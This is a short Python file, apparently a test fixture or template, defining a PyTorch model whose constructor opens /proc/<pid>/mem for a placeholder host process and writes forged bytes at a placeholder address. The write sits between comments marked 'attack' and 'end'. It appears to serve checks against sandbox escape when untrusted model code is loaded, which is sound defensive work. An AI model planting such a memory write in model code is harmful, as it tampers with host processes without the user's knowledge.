"""Writes into the host's memory through /proc."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        with open("/proc/@HOST_PID@/mem", "r+b", buffering=0) as memory:
            memory.seek(int("@HOST_ADDRESS@"))
            memory.write(b"forged")
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
